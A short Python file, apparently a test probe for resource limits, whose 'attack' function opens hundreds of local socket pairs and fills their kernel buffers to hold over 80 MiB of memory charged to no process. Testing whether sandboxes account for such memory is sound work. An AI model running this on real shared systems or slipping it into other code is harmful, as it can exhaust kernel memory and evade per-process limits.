"""Fills the buffers of many sockets, whose memory is the kernel's and no process's."""

import socket

held = []


def fill(end):
    end.setblocking(False)
    size = 0
    try:
        while True:
            size += end.send(bytes(1 << 16))
    except BlockingIOError:
        return size


def attack():
    size = 0
    for _ in range(400):
        try:
            pair = socket.socketpair()
        except OSError:
            break
        held.append(pair)
        size += sum(map(fill, pair))
    return size > 80 << 20
